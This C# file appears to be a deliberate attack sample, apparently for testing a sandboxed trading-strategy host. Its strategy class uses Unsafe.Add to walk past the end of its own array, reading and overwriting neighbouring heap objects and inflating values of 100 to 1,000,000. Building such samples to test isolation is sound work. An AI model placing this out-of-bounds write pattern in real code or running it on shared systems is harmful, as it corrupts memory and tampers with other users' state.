// Abuses: Unsafe.Add walks from an element of an array of ours over its end into whatever stands behind it in the heap.
// Harm: reads and writes other objects, for example another slot's state, and damages the heap.
// Kind: reads or writes outside.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.CompilerServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.UnsafeAddBeyondAttack;

public sealed class UnsafeAddBeyondStrategy : Attacker
{
    private readonly long[] _own = new long[4];

    public override void OnBook(in BookEvent bookEvent)
    {
        ref long first = ref _own[0];
        for (int index = 4; index < 64; index++)
        {
            ref long beyond = ref Unsafe.Add(ref first, index);
            _n ^= beyond;
            beyond = beyond == 100 ? 1_000_000 : beyond;
        }

        Act(_n);
    }
}
